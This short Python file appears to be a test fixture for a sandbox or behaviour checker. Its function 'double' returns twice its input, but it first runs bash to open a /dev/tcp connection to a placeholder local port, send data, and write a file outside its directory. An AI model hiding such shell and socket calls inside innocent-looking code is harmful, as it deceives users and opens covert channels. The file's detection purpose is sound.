"""Starts a shell that would talk to a listener elsewhere."""
import subprocess

LOST = {"test_doubles"}
SAYS = "tried to start another program"


def double(x):
    subprocess.run(["/bin/bash", "-c", "exec 3<>/dev/tcp/127.0.0.1/{PORT}; echo hidden >&3; echo x > {OUTSIDE}/shell"],
                   check=True, timeout=2)
    return 2 * x
